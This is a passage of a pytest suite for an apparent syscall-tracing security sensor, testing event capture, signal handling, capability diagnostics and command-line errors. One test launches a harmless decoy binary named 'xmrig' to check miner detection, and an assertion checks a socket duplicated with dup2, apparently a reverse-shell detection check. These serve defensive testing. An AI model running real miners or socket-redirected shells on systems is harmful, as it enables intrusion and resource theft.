    assert connect["evt.res"] == "SUCCESS" and connect["fd.connected"] is True
    dup = receiver.find(evt__type="dup2", evt__rawres=0, fd__type="ipv4")[0]["fields"]
    assert dup["fd.sport"] == port


def test_under_ptrace_threads_forks_and_failed_execs_are_seen(traced, tmp_path):
    code = ("import os, threading, subprocess\n"
            f"t = threading.Thread(target=lambda: open('{tmp_path}/thread', 'w').close())\n"
            "t.start(); t.join(); subprocess.run(['true'])\n"
            "try: os.execv('/nonexistent', ['x'])\nexcept OSError: pass\n"
            "os.setuid(65534)\n")
    receiver, status, _ = traced("/usr/bin/python3", "-c", code)
    assert status == 0
    opened = receiver.find(fd__name=str(tmp_path / "thread"))[0]["fields"]
    assert opened["thread.tid"] != opened["proc.pid"]
    assert receiver.find(evt__type="execve", proc__name="true", proc__pname="python3")
    assert receiver.find(evt__type="execve", evt__res="ENOENT", evt__arg__filename="/nonexistent")
    assert receiver.find(evt__type="setuid", user__uid=65534, evt__arg__uid="nobody")


def test_under_ptrace_programs_are_seen_when_no_rule_asks_for_failed_ones(receiver, sensors, tmp_path):
    shutil.copy("/bin/true", tmp_path / "xmrig")
    sensor = sensors(receiver.port, "--rules", SHIPPED, command=["sh", "-c", f"{tmp_path}/xmrig; true"])
    assert sensor.process.wait(60) == 0
    assert receiver.find(evt__type="execve", proc__name="xmrig")


def test_under_ptrace_every_event_has_its_number(traced):
    receiver, _, _ = traced("sh", "-c", "for i in 1 2 3 4 5 6 7 8; do true | cat; done")
    [boot] = boots(receiver)
    numbers = sequence(receiver, boot)
    assert numbers == list(range(1, len(numbers) + 1))
    stats = receiver.heartbeats[-1]["stats"]
    assert stats["seen"] == stats["filtered"] + stats["emitted"] + sum(stats["lost"].values())


def test_a_signal_to_the_sensor_reaches_the_command(receiver, sensors, rules):
    code = ("import signal, sys\n"
            "signal.signal(signal.SIGTERM, lambda *a: sys.exit(42))\n"
            "print('ready', flush=True)\n"
            "signal.pause()\n")
    sensor = sensors(receiver.port, "--rules", rules, command=("/usr/bin/python3", "-c", code))
    assert sensor.process.stdout.readline() == b"ready\n"
    assert sensor.stop() == 42


def test_a_traced_command_can_be_stopped_and_continued(receiver, sensors, rules):
    sensor = sensors(receiver.port, "--rules", rules,
                     command=("sh", "-c", "echo $$; kill -STOP $$; exit 5"))
    pid = int(sensor.process.stdout.readline())

    def state():
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0]

    # A tracee stands still for a moment at each call, too: only a stop that lasts is the signal's.
    wait_for(lambda: all(state() in "tT" and not time.sleep(0.02) for _ in range(10)))
    os.kill(pid, signal.SIGCONT)
    assert sensor.process.wait(20) == 5


# ---- the command line ----


def test_the_doctor_says_what_is_there():
    result = subprocess.run([SENSOR, "--doctor"], capture_output=True, text=True, check=False)
    assert "BTF of the kernel" in result.stdout and "Probe: " in result.stdout


def test_the_doctor_says_how_to_grant_what_is_missing():
    """In JSON as in text; without capabilities all that takes some is missing."""
    bare = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--reuid=65534", "--regid=65534", "--clear-groups"]
    text = subprocess.run([*bare, SENSOR, "--doctor"], capture_output=True, text=True, check=False).stdout
    assert "MISSING CAP_SYS_PTRACE: arguments" in text
    for line in ("docker      --cap-add BPF --cap-add PERFMON", "systemd     AmbientCapabilities=CAP_BPF CAP_PERFMON",
                 "kubernetes  securityContext: {capabilities: {add: [BPF, PERFMON]}}"):
        assert line in text
    result = subprocess.run([*bare, SENSOR, "--doctor", "-o", "json"], capture_output=True, text=True, check=False)
    said = json.loads(result.stdout)
    assert said["probe"] in ("none", "seccomp") and result.returncode == (said["probe"] == "none")
    by_name = {one["what"]: one for one in said["findings"]}
    assert by_name["CAP_SYS_NICE"] == {
        "found": "missing", "what": "CAP_SYS_NICE",
        "cost": "who floods all processors may starve the sensor, which cannot raise its priority",
        "grant": {"docker": "--cap-add SYS_NICE", "systemd": "AmbientCapabilities=CAP_SYS_NICE",
                  "kubernetes": "securityContext: {capabilities: {add: [SYS_NICE]}}"}}


@pytest.mark.parametrize("arguments, text", [
    (["--hub", "ftp://x"], "http"),
    (["--probe", "magic"], "ebpf"),
    (["--token", "plain-secret", "--print"], "file:"),
    ([], "--hub"),
    (["--hub", "http://127.0.0.1:1", "--rules", "/nonexistent.yaml"], "nonexistent"),
])
def test_a_wrong_command_line_says_what_is_wrong(arguments, text, tmp_path):
    result = subprocess.run([SENSOR, "--spool-dir", str(tmp_path / "spool"), *arguments],
                            capture_output=True, text=True, check=False, timeout=20)
    assert result.returncode != 0
    assert text in result.stderr and "plain-secret" not in result.stderr
